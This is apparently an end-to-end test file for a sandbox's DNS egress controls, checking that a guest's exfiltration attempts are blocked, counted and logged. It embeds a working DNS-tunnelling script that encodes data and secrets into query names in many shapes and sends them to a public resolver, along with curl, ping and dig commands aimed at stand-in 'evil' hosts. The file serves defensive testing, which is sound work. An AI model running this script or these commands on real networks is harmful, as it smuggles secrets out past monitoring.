"""Run in a network namespace of its own by tests/e2e/test_dns_leak.py: a real session whose guest tries to carry data out by
names, while every packet of the host is counted."""

import os
import secrets
import socket
import unittest

from tests.support.dns_gate import query
from tests.support.house import House, Shell
from tests.support.outside import Outside
from tests.support.upstream import wait_until

# The shapes of public tools: what they encode with, how they cut, what they ask for.
ATTACK = r"""
import base64, os, random, socket, struct, sys
mark = sys.argv[1]
random.seed(5)
blob = os.environb.get(b"DATA") or bytes(random.randrange(256) for _ in range(1500))
def chunks(text, size): return [text[i:i + size] for i in range(0, len(text), size)]
hexed, b32 = blob.hex(), base64.b32encode(blob).decode().rstrip("=").lower()
b64 = base64.urlsafe_b64encode(blob).decode().rstrip("=")
shapes = {
    "hex": [(c, 1) for c in chunks(hexed, 60)],
    "base32": [(c, 1) for c in chunks(b32, 63)],
    "base64": [(c, 1) for c in chunks(b64, 60)],
    "chunked": [("%d.%d.%s" % (i, len(hexed) // 16, c), 1) for i, c in enumerate(chunks(hexed, 16))],
    "chain": [(".".join(chunks(c, 30)), 1) for c in chunks(b32, 200)] * 3,
    "txt": [(c, 16) for c in chunks(b32, 50)],
    "null": [(c, 10) for c in chunks(b32, 120 // 2)],
    "beacon": [("beacon-%d" % i, 16) for i in range(40)],
    "ipv6": [(c, 28) for c in chunks(hexed, 32)],
    "mx": [(c, 15) for c in chunks(b32, 40)],
}
asked = [("%s.%s-%s.example" % (name, shape, mark), kind) for shape, names in shapes.items() for name, kind in names]
asked += [("%s.r%d-%s.example" % (random.randbytes(24).hex(), i, mark), 1) for i in range(300)]  # rotating domains
asked += [("%s.%s.in-addr.arpa" % (c, mark), 12) for c in chunks(hexed, 40)]
told = {}
for number, (name, kind) in enumerate(asked):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    message = struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.sendto(message, ("8.8.8.8" if number % 3 == 0 else "127.0.0.1", 53))
        rcode = s.recv(4096)[3] & 15
    told[rcode] = told.get(rcode, 0) + 1
print("asked", len(asked), "told", told)
"""
ONE_BY_ONE = ["hex", "base32", "base64", "chunked", "chain", "txt", "null", "beacon", "ipv6", "mx"]
KEY = "gatehouse-sample-key-" + "5f0e9d8c7b6a" * 3


class Leak(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.outside = Outside()
        cls.mark = "m" + secrets.token_hex(8)
        cls.house = House()
        cls.addClassCleanup(cls.house.close)
        cls.house.environment["GATEHOUSE_LEAK_KEY"] = KEY
        policy = cls.house.policy({
            "http": [{"id": "read", "action": "allow", "hosts": [f"{word}-{cls.mark}.example" for word in ["open", "quiet"]],
                      "methods": ["GET"]}],
            "secrets": {"KEY": {"from": "env:GATEHOUSE_LEAK_KEY"}}})
        cls.shell = Shell(cls.house, "--policy", policy, "--name", "leak")
        cls.addClassCleanup(cls.shell.close)

    def rows(self, table: str) -> list[dict]:
        return [row for row in self.house.audit("leak") if row["table"] == table]

    def show_that_the_counter_counts(self, word: str) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.sendto(query(f"{word}.example"), ("192.0.2.53", 53))
        wait_until(lambda: self.outside.packets_with(word), 10, "the control datagram to be counted")

    def test_no_datagram_leaves_for_a_name_that_is_denied(self):
        self.show_that_the_counter_counts("control-before")

        # What an allowed request looks up after its verdict does leave, and is seen.
        _, told = self.shell.run(f"curl -sS --max-time 30 https://open-{self.mark}.example/")
        self.assertIn("upstream.lookup", told)
        self.assertTrue(self.outside.packets_with(f"open-{self.mark}"))

        # Denied: the method of a host that may be looked up, names as such, names as data.
        _, told = self.shell.run(f"curl -sS -X DELETE https://quiet-{self.mark}.example/")
        self.assertIn("default-deny", told)
        for command in ["curl -sS https://evil-{}.example/", "getent hosts evil-{}.example", "ping -c 1 evil-{}.example",
                        "dig +tries=1 +time=5 @8.8.8.8 evil-{}.example TXT", "dig +tries=1 +time=5 @1.1.1.1 +tcp evil-{}.example MX",
                        "dig +tries=1 +time=5 @2001:4860:4860::8888 evil-{}.example"]:
            self.shell.run(command.format(self.mark))
        code, told = self.shell.run(f"python3 - {self.mark} <<'END'\n{ATTACK}\nEND", 300)
        self.assertEqual(code, 0, told)
        self.assertRegex(told, r"asked \d+ told \{3: \d+\}", "every one of them NXDOMAIN")

        self.show_that_the_counter_counts("control-after")
        leaked = [(where, packet) for where, packet in self.outside.packets_with(self.mark)
                  if f"open-{self.mark}".encode() not in packet]
        self.assertEqual(leaked, [])
        known = [b"control-before", b"control-after", f"open-{self.mark}".encode()]
        self.assertEqual([packet for packet in self.outside.packets_out() if not any(word in packet for word in known)], [])

        self.check_the_log()

    def noticed(self) -> dict[str, dict]:
        return {row["name"]: row for row in self.rows("dns_events")
                if row["rule_id"] == "dns.exfiltration" and row["trace_id"] == row["event_id"]}

    def check_the_log(self) -> None:
        domains = {shape: f"{shape}-{self.mark}.example" for shape in ONE_BY_ONE}
        wait_until(lambda: self.noticed().keys() >= {*domains.values(), "in-addr.arpa", ""}, 10, "a row for each shape")
        noticed, rows = self.noticed(), self.rows("dns_events")
        for shape, domain in domains.items():
            self.assertEqual(noticed[domain]["verdict"], "deny")
            listed = [row for row in rows if row["name"].endswith(domain) and row["rule_id"] != "dns.exfiltration"]
            self.assertLess(len(listed), 80 if shape == "chunked" else 30, domain)
        self.assertIn("domains look like data", noticed[""]["reason"])
        rotating = [row for row in rows if f"-{self.mark}.example" in row["name"] and ".r" in row["name"]]
        self.assertLess(len(rotating), 200)

    def test_a_known_secret_is_found_in_names_that_have_no_row(self):
        env = f"DATA='{KEY * 30}'"
        code, told = self.shell.run(f"{env} python3 - again{self.mark} <<'END'\n{ATTACK}\nEND", 300)
        self.assertEqual(code, 0, told)
        findings = [row for row in self.rows("dlp_findings") if row["channel"] == "dns" and f"again{self.mark}" in row["host"]]
        counted = {row["event_id"] for row in self.rows("dns_events") if row["rule_id"] == "dns.exfiltration"}
        self.assertTrue([row for row in findings if row["trace_id"] in counted], findings)
        self.assertNotIn(KEY, str(self.house.audit("leak")))


if __name__ == "__main__":
    unittest.main()
